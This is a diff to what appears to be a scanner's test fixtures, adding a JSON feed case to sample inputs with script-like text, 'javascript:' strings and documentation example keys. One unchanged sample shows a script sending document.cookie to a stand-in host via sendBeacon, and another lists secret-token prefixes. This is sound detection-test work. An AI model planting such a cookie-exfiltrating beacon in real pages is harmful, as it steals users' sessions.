@@ -45,7 +45,7 @@ LOADS = {
 }  # fmt: skip
 
 RUNS = {
-    "a program in text": {"a.txt": "<!doctype html><script>x()</script>\n"},
+    "a program in text": {"a.txt": "It says: <!doctype html><script>x()</script>\n"},
     "a program in a sample": "<pre><code class=language-js>&lt;script>navigator.sendBeacon('https://spy.example/', document.cookie)&lt;/script></code></pre>",
     "a program in an attribute": '<p title="javascript: how it works">A</p>',
     "a heading about javascript": '<h2 id="javascript">JavaScript: a short history</h2><a href="#javascript">There</a>',
@@ -97,6 +97,7 @@ REMEMBERS = {
     "a channel of which an entry was changed later": {"f.xml": "<rss version='2.0'><channel><lastBuildDate>Sat, 02 Jan 2021 10:30:00 +0000</lastBuildDate><item><pubDate>Fri, 01 Jan 2021 00:00:00 +0000</pubDate></item></channel></rss>"},
     "a feed without entries": {"f.xml": "<feed xmlns='http://www.w3.org/2005/Atom'><updated>2021-01-02T00:00:00Z</updated></feed>"},
     "a sitemap of days": {"sitemap.xml": "<urlset xmlns='http://www.sitemaps.org/schemas/sitemap/0.9'>" + "".join(f"<url><loc>/{n}</loc><lastmod>2021-01-02</lastmod></url>" for n in range(5)) + "</urlset>"},
+    "a feed's words like a program": {"f.json": '{"version": "https://jsonfeed.org/version/1.1", "title": "javascript:void", "items": [{"id": "1", "title": "javascript:x()", "content_text": "javascript:x()", "summary": "javascript:x()", "tags": ["data:a"]}]}'},
     "JSON with dates": {"a.json": '{"date_published": "2021-01-02T10:11:12Z", "build": 12, "generated": true}'},
     "a key that documentation shows": "<pre>aws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY</pre>",
     "the beginning of a key": "<p>A key begins with <code>-----BEGIN RSA PRIVATE KEY-----</code> and a token with <code>ghp_</code>, <code>sk-</code> or <code>xoxb-</code>.</p>",
